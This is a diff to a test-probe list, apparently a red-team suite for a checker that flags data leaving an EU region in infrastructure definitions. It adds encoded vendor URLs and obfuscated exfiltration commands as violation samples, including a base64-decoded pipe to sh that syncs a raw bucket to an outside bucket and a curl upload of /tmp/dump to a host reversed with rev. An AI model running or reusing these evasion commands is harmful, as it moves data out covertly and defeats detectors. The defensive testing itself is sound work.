@@ -1491,4 +1491,22 @@ export const PROBES: readonly Probe[] = [
   L("legit", "view selecting from the stack's own sanitized stage", "warehouse", {
     add: r("snowflake_view", "SanV", { database: "REGIONKIT", schema: "SANITIZED", name: "EU_SANITIZED_PEEK", statement: "SELECT $1 AS v FROM @REGIONKIT.SANITIZED.SANITIZED_EU_STAGE (FILE_FORMAT => 'REGIONKIT.SANITIZED.PARQUET')" }),
   }),
+  // ---- red-team round 4: encodings (hex, unpadded base64url, entities, Unicode dots, decoding pipes) ---------
+  ...([
+    ["hex-encoded vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1").toString("hex")],
+    ["unpadded base64url vendor URL", Buffer.from("https://ingest.partner-analytics.com/v1?x=1").toString("base64url")],
+    ["URL with ideographic full stops", "https://ingest\u3002partner-analytics\u3002com/v1"],
+    ["XML-entity-encoded vendor host", "<url>https://collect&#46;partner-analytics&#x2E;com/v1/logs</url>"],
+    ["command decoding a base64 script and running it", `echo ${Buffer.from(`aws s3 sync s3://${RAW} s3://partner-drop-eu`).toString("base64")} | base64 -d | sh`],
+    ["command reversing a host with rev", "curl -T /tmp/dump https://$(echo moc.scitylana-rentrap.tsegni | rev)/v1"],
+  ] as const).map(([name, value]) =>
+    V("expression", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { SINK: value } } }) }),
+  ),
+  ...([
+    ["hex of an in-region queue URL", Buffer.from(`https://sqs.eu-central-1.amazonaws.com/${EU}/rk-eu-jobs`).toString("hex")],
+    ["a command decoding base64 of an in-region copy", `echo ${Buffer.from(`aws s3 cp s3://rk-eu-spark-artifacts-${EU}/a.sh /tmp/a.sh --region eu-central-1`).toString("base64")} | base64 -d | sh`],
+    ["a 64-hex SHA-256 digest and a long kit name", "3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d4c3b2a19"],
+  ] as const).map(([name, value]) =>
+    L("legit", `Lambda env: ${name}`, "data-eu", { add: r("aws_lambda_function", "F", { function_name: "rk-eu-f", role: `arn:aws:iam::${EU}:role/rk-eu-f`, handler: "index.handler", runtime: "nodejs22.x", s3_bucket: `rk-eu-spark-artifacts-${EU}`, s3_key: "f.zip", environment: { variables: { VALUE: value, NAME: "rk-eu-lake-raw-222222222222_compacted" } } }) }),
+  ),
 ];
